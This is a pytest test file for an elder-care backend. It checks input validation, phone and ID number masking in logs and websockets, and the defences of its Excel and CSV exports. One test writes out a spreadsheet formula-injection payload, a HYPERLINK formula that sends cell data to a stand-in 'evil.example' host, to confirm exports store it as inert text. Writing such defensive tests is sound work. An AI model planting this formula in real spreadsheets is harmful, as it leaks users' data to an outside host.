"""Bad input is a 4xx, never a 5xx (finding 13); exports hold no formulas (finding 14); free text never carries a
whole phone or ID number to the sockets or the logs (finding 8)."""

from __future__ import annotations

import csv
import io
import logging
import uuid

import pytest
from openpyxl import load_workbook

from backend.core.logging import RedactPersonalData
from backend.core.masking import mask_text
from tests.client import Ws
from tests.e2e.test_insurance import CSV_HEADER


async def test_out_of_range_values_are_refused_with_a_4xx(stack, admin, make_world) -> None:
    world = await make_world(caregivers_km=())
    elder = world.elders[0]
    cases = [
        ("GET", f"/api/v1/elders/{elder['id']}/entitlement?month=0000-01", None),
        ("GET", f"/api/v1/elders/{elder['id']}/entitlement?month=9999-12", None),
        ("POST", "/api/v1/settlements/run", {"provider_id": world.provider["id"], "month": "0000-01"}),
        ("POST", "/api/v1/settlements/run", {"provider_id": world.provider["id"], "month": "9999-12"}),
        ("POST", "/api/v1/settlements/run-month", {"month": "9999-12"}),
        ("POST", "/api/v1/settlements/run-month", {"month": "0000-01"}),
        (
            "POST",
            "/api/v1/requests",
            {"elder_id": elder["id"], "service_type": "meal", "window_start": "0001-01-01T00:00:00"},
        ),
        (
            "POST",
            "/api/v1/requests",
            {"elder_id": elder["id"], "service_type": "meal", "window_end": "9999-12-31T23:59:59+14:00"},
        ),
    ]
    for method, path, body in cases:
        response = await admin.http.request(method, path, json=body)
        assert 400 <= response.status_code < 500, (path, body, response.status_code, response.text)
        assert response.json()["error"]["code"]
    forged = "Bearer " + "x" * 5000
    assert (await admin.http.get("/api/v1/users/me", headers={"Authorization": forged})).status_code == 401


@pytest.mark.parametrize("limit", ["inf", "1e400", "-inf", "nan", "9" * 400])
async def test_absurd_numbers_in_an_import_are_row_errors(stack, admin, limit) -> None:
    tag = uuid.uuid4().hex[:8]
    row = f"居家责任险,某机构{tag},人保苏州,{tag},2026-01-01,2026-12-31,{limit},{limit},政府"
    files = {"file": ("保单.csv", (CSV_HEADER + row + "\n").encode(), "text/csv")}
    response = await admin.post("/api/v1/insurance/policies/import", files=files)
    assert response.status_code == 200, response.text
    assert response.json()["imported"] == 0 and len(response.json()["errors"]) == 1


async def test_exports_hold_text_never_formulas(stack, admin) -> None:
    tag = uuid.uuid4().hex[:6]
    evil = f'=HYPERLINK("http://evil.example/?q="&A1,"点击查看{tag}")'
    await admin.ok(
        "POST", "/api/v1/districts", {"code": f"X{tag}", "name": evil, "location": {"lat": 31.3, "lon": 120.6}}, 201
    )
    await admin.ok(
        "POST",
        "/api/v1/districts",
        {"code": f"Y{tag}", "name": f"@SUM(1+1){tag}", "location": {"lat": 31.3, "lon": 120.6}},
        201,
    )
    xlsx = await admin.get("/api/v1/dashboard/city/export?format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and tag in c.value]
    assert len(cells) == 2
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells), [(c.value, c.data_type) for c in cells]
    text = (await admin.get("/api/v1/dashboard/city/export?format=csv")).content.decode("utf-8-sig")
    names = [cell for line in csv.reader(io.StringIO(text)) for cell in line if tag in cell]
    assert sorted(names) == sorted(["'" + evil, f"'@SUM(1+1){tag}"])


@pytest.mark.parametrize(
    "written",
    [
        "13812340001",
        "138 1234 0001",
        "138-1234-0001",
        "138.1234.0001",
        "138+1234+0001",
        "(138)1234-0001",
        "+86 138 1234 0001",
        "１３８１２３４０００１",
        "８６１３８１２３４０００１",
        "0512-6512 3456",
        "(0512)65123456",
    ],
)
def test_every_way_of_writing_a_phone_number_is_masked_in_the_logs(written: str) -> None:
    handler = logging.StreamHandler()
    handler.addFilter(RedactPersonalData())
    record = logging.LogRecord("t", logging.INFO, __file__, 1, "家属留言：请打 %s 联系", (written,), None)
    assert handler.filter(record)
    text = handler.format(record)
    digits = "".join(ch for ch in text if ch.isdigit() or "０" <= ch <= "９")
    assert "****" in text and len(digits) <= 8, text
    assert mask_text(f"备注{written}谢谢").startswith("备注") and "****" in mask_text(f"备注{written}谢谢")


async def test_a_ladder_note_with_a_phone_and_an_id_number_reaches_no_socket_whole(stack, admin, make_world) -> None:
    world = await make_world()
    elder = world.elders[0]
    operator = await world.user("operator")
    staff = await world.user("community_staff", community_id=world.community["id"])
    made = await operator.ok(
        "POST",
        "/api/v1/requests",
        {
            "elder_id": elder["id"],
            "service_type": "emergency",
            "priority": "emergency",
            "notes": "老人摔倒 13812340001",
        },
        201,
    )
    watchers = []
    for api, channel in ((staff, f"community:{world.community['id']}"), (operator, f"request:{made['id']}")):
        ws = await Ws.connect(stack.base_url, api.token or "")
        await ws.subscribe(channel, since=0)
        watchers.append(ws)
    note = "已联系女儿，电话 138+1234+0001，身份证 320502194503021234"
    await operator.ok("POST", f"/api/v1/requests/{made['id']}/ladder/act", {"note": note})
    for ws in watchers:
        stopped = await ws.wait_event("ladder.stopped", request_id=made["id"])
        assert stopped["data"]["note"] == "已联系女儿，电话 138****0001，身份证 3205**********1234"
        everything = str(ws.frames)
        assert "13812340001" not in everything and "1234+0001" not in everything
        assert "320502194503021234" not in everything
        await ws.close()


async def test_names_with_control_characters_still_export(stack, admin) -> None:
    """Found by the fuzzer: a district named with control characters made the Excel export a 500."""
    tag = uuid.uuid4().hex[:6]
    body = {"code": f"Z{tag}", "name": f"区\x01\x0b{tag}\x1f", "location": {"lat": 31.3, "lon": 120.6}}
    await admin.ok("POST", "/api/v1/districts", body, 201)
    xlsx = await admin.get("/api/v1/dashboard/city/export?format=xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    assert any(c.value == f"区{tag}" for row in sheet.iter_rows() for c in row)
